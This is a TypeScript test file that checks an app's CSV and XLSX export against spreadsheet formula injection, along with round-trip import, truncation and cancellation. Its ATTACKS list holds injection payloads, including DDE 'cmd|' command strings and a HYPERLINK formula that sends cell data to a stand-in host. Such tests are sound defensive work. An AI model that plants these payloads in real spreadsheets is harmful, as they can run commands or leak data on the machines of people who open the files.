/** What is written is what is read: by Python, and by the product's own import; and no cell of it is ever a formula. */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { harmless, writeCsv } from '../../../electron/vault/export/csv.ts'
import { cellText, type TableText } from '../../../electron/vault/export/tableText.ts'
import { fitting, LONGEST_CELL, writeXlsx } from '../../../electron/vault/export/xlsx.ts'
import { guessMap, PERSON_COLUMNS } from '../../../electron/vault/import/columns.ts'
import { readTable } from '../../../electron/vault/import/readTable.ts'
import { cellValues } from '../../../electron/vault/import/values.ts'
import type { Delimiter } from '../../../shared/contract/exports.ts'
import { VaultError } from '../../../shared/errors.ts'
import { LANGUAGES } from '../../../shared/i18n/languages.ts'
import { MemoryVault } from '../dossier/memoryVault.ts'
import { bytesOf, pythonCsv, pythonXlsx, tableOf, tempFolder } from './tables.ts'

const ATTACKS = [
  '=1+1',
  '+1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  '=HYPERLINK("http://x.invalid/?"&A1,"натисни")',
  'Керч;=1+1',
  'Керч,  @SUM(1)',
  'рядок\n=1+1',
  'Керч;"=1+1;',
  'Керч, "@SUM(1),',
  'Керч;"-1+cmd|"x"!A1;',
  'рядок\n-1+cmd|"x"!A1',
]
const PLAIN = [
  'Ім’я "прізвисько"',
  'а,б;в\tг|ґ',
  'два\nрядки',
  "'лапки'",
  'a & b < c > d',
  'Кримськотатарське: Ñ ğ ş ı â',
  '😀 𐍈',
  '1980-02-03',
  '+380 не формула; - теж',
]

/** A spreadsheet program takes it for a formula. */
const isFormula = (cell: string): boolean => /^[\s\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell)

const write = (bytes: Uint8Array, ending: string): string => {
  const path = join(tempFolder(), `table.${ending}`)
  writeFileSync(path, bytes)
  return path
}
const NOTHING = async () => {}
const joined = (pieces: AsyncIterable<Uint8Array>) => buffer(Readable.from(pieces))
const csv = (text: TableText, delimiter: Delimiter) => joined(writeCsv(text, delimiter, NOTHING))
const xlsx = (text: TableText) => joined(writeXlsx(text, NOTHING))
const table = (cells: readonly string[]) => ({
  name: 'x',
  columns: cells.map((_, n) => `c${n}`),
  rows: [cells.map(cellText)],
})

describe('CSV', () => {
  for (const [delimiter, sign] of [
    ['comma', ','],
    ['semicolon', ';'],
    ['tab', '\t'],
  ] as const)
    it(`has no cell that is a formula, whichever delimiter the reader expects: ${delimiter}`, async () => {
      const bytes = await csv(table([...ATTACKS, ...PLAIN]), delimiter)
      const path = write(bytes, 'csv')
      const [, row] = pythonCsv(path, sign)
      expect(row?.filter(isFormula)).toEqual([])
      expect(row).toEqual([...ATTACKS, ...PLAIN].map((cell) => harmless(cellText(cell))))
      // As a program that looks for another sign, and knows quotes only where a cell begins, takes it apart.
      const text = new TextDecoder().decode(bytes)
      for (const other of [',', ';', '\t', '|', '\n']) {
        // Two quotes at its beginning are an empty text, and what stands behind them is added to that.
        const pieces = text
          .split(other)
          .map((piece) => piece.replace(/^[ \u00a0\p{Cf}]*(?:"")?[ \u00a0\p{Cf}]*/u, ''))
        expect(pieces.filter((piece) => /^[=@＝＠]/u.test(piece))).toEqual([])
        expect(pieces.filter((piece) => /^[+\-＋－][^,;|\t\n]*[(|!]/u.test(piece))).toEqual([])
      }
    })

  it('is UTF-8 with a byte order mark, all cells in quotes, lines with CR LF', async () => {
    const bytes = await csv({ name: '', columns: ['а', 'б'], rows: [['1 "x"', 2]] }, 'semicolon')
    expect(Buffer.from(bytes).toString('utf8')).toBe('\ufeff"а";"б"\r\n"1 ""x""";"2"\r\n')
  })

  it('leaves alone what is no formula', () => {
    for (const text of PLAIN.slice(0, -1)) expect(harmless(text)).toBe(text)
    expect(harmless('Керч, +380 44 555 01 99; - сказав')).toBe('Керч, +380 44 555 01 99; - сказав')
  })

  it('is read by Python as it was, whatever stands in it', { timeout: 60_000 }, async () => {
    const cells = fc.sample(fc.string({ unit: 'binary', maxLength: 40 }), {
      seed: 7,
      numRuns: 3000,
    })
    const [, row] = pythonCsv(write(await csv(table(cells), 'comma'), 'csv'))
    expect(row).toEqual(cells.map((cell) => harmless(cellText(cell))))
    expect(row?.filter(isFormula)).toEqual([])
  })
})

describe('XLSX', () => {
  it('holds every text as a text, and nothing that is run or says who wrote it', async () => {
    const cells = [...ATTACKS, ...PLAIN]
    const book = pythonXlsx(write(await xlsx(table(cells)), 'xlsx'))
    const row = book.rows[1]?.map(([, type, text]) => [type, text])
    expect(row).toEqual(cells.map((cell) => ['inlineStr', cellText(cell)]))
    expect(book.tags).not.toContain('f')
    expect(book.names).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ])
    expect(book.times).toEqual(['(1980, 1, 1, 0, 0, 0)'])
  })

  it('is XML whatever stands in it', { timeout: 60_000 }, async () => {
    const cells = fc.sample(fc.string({ unit: 'binary', maxLength: 40 }), {
      seed: 8,
      numRuns: 2000,
    })
    const book = pythonXlsx(write(await xlsx(table(['x', ...cells])), 'xlsx'))
    const read = new Map(book.rows[1]?.map(([place, , text]) => [place, text]))
    expect(read.size).toBe([...cells, 'x'].filter((cell) => cellText(cell) !== '').length)
    const texts = [...read.values()]
    expect(texts).toEqual(['x', ...cells].map(cellText).filter((cell) => cell !== ''))
  })

  it('is the same file whenever it is made', async () => {
    const [one, other] = [await xlsx(table(PLAIN)), await xlsx(table(PLAIN))]
    expect(Buffer.from(one).equals(Buffer.from(other))).toBe(true)
  })

  it('writes the text of an escape as the text it is', async () => {
    const book = pythonXlsx(write(await xlsx(table(['_x000D_ і _x0041_'])), 'xlsx'))
    expect(book.rows[1]?.[0]?.[2]).toBe('_x005F_x000D_ і _x005F_x0041_')
    const read = await readTable(await xlsx(table(['_x000D_ і _x0041_'])))
    expect(read.rows[0]?.cells[0]).toBe('_x000D_ і _x0041_')
  })

  it('cuts a cell at the most that a spreadsheet program opens, and counts it', async () => {
    for (const [length, cut] of [
      [LONGEST_CELL - 1, 0],
      [LONGEST_CELL, 0],
      [LONGEST_CELL + 1, 1],
    ] as const) {
      const vault = new MemoryVault()
      // A word of such a length is read in no time too.
      const note = 'ї'.repeat(length)
      vault.put(
        vault
          .draft('person')
          .add('names', { text: 'Петренко', lang: 'uk' })
          .add('note', note, { confidentiality: 'C1' }),
      )
      const path = join(tempFolder(), 'x.xlsx')
      const request = tableOf('person', { format: 'xlsx', columns: 'all' })
      expect((await vault.exports().preview(request)).shortened).toBe(cut)
      expect((await vault.exports().write(request, path)).shortened).toBe(cut)
      const longest = Math.max(...(pythonXlsx(path).rows[1] ?? []).map(([, , text]) => text.length))
      expect(longest).toBe(Math.min(length, LONGEST_CELL))
    }
    const pair = `${'a'.repeat(LONGEST_CELL - 2)}😀b`
    expect(fitting(pair)).toBe(`${'a'.repeat(LONGEST_CELL - 2)}…`)
  })
})

describe('a table of many pieces', () => {
  const rows = Array.from({ length: 4000 }, (_, n) => [`Рядок ${n}`, `${n}`.repeat(12), n])
  const many = { name: 'x', columns: ['а', 'б', 'в'], rows }

  it('is whole in both formats, and says between the pieces how far it is', async () => {
    const told: number[] = []
    const between = async (done: number) => void told.push(done)
    const inCsv = pythonCsv(write(await joined(writeCsv(many, 'comma', between)), 'csv'))
    expect(inCsv).toEqual([many.columns, ...rows.map((row) => row.map(String))])
    expect(told.length).toBeGreaterThan(2)
    const book = pythonXlsx(write(await joined(writeXlsx(many, between)), 'xlsx'))
    expect(book.rows.map((row) => row.map(([, , text]) => text))).toEqual(inCsv)
    const half = told.findIndex((done, at) => at > 0 && done < (told[at - 1] ?? 0))
    for (const part of [told.slice(0, half), told.slice(half)])
      expect(part).toEqual(part.toSorted((a, b) => a - b))
  })

  it('stops where it is told to', async () => {
    for (const write of [
      (between: () => Promise<void>) => writeCsv(many, 'comma', between),
      (between: () => Promise<void>) => writeXlsx(many, between),
    ]) {
      let left = 2
      const pieces = write(async () => {
        left -= 1
        if (left === 0) throw new VaultError('cancelled')
      })
      await expect(joined(pieces)).rejects.toMatchObject({ code: 'cancelled' })
    }
  })
})

describe('the import', () => {
  const invented = () => {
    const vault = new MemoryVault()
    vault.put(
      vault
        .draft('person')
        .add('names', { text: '=Тестенко "Емір"; Усеїн', lang: 'uk' })
        .add('names', { text: 'Testenko Emir', lang: 'en' })
        .add('status', 'serving_colony')
        .add('sex', 'female')
        .add('birthDate', '1980~', { confidentiality: 'C1' })
        .add('arrestDate', '2019-03')
        .add('citizenship', 'Україна')
        .add('charges', { article: '205.5 ч. 2', caption: 'участь' })
        .add('charges', { article: '30 ч. 1 – 278' })
        .add('court', '@суд')
        .add('verdictDate', '2020-01-31')
        .add('sentence', { years: 13, months: 6, regime: 'strict', prisonYears: 5 })
        .add('healthCategory', 'woman')
        .add('healthCategory', 'disability_1')
        .add('note', 'перший рядок\n-другий', { confidentiality: 'C1' }),
    )
    return vault
  }

  for (const language of LANGUAGES)
    for (const format of ['csv', 'xlsx'] as const)
      it(`reads back what was exported: ${language}, ${format}`, async () => {
        const path = join(tempFolder(), `x.${format}`)
        await invented()
          .exports()
          .write(tableOf('person', { language, format, columns: 'all' }), path)
        const { columns, rows } = await readTable(bytesOf(path))
        const map = guessMap(columns)
        const read = new Map<string, unknown>()
        for (const [place, column] of map.entries()) {
          const text = rows[0]?.cells[place] ?? ''
          const known = column === null ? undefined : PERSON_COLUMNS.get(column)
          if (!known || text === '') continue
          const result = cellValues(known.field, column ?? '', text, known.words)
          read.set(column ?? '', result.ok ? result.values : result.reason)
        }
        expect(Object.fromEntries(read)).toEqual({
          // A `;` parts values.
          name_uk: [{ text: '=Тестенко "Емір", Усеїн', lang: 'uk' }],
          name_en: [{ text: 'Testenko Emir', lang: 'en' }],
          status: ['serving_colony'],
          sex: ['female'],
          birth_date: ['1980~'],
          arrest_date: ['2019-03'],
          citizenship: ['Україна'],
          charge: [{ article: '30 ч. 1 – 278' }, { article: '205.5 ч. 2', caption: 'участь' }],
          court: ['@суд'],
          verdict_date: ['2020-01-31'],
          sentence: [{ years: 13, months: 6 }],
          health_category: ['disability_1', 'woman'],
          note: [expect.stringMatching(/^перший рядок\n'?-другий$/)],
        })
      })
})
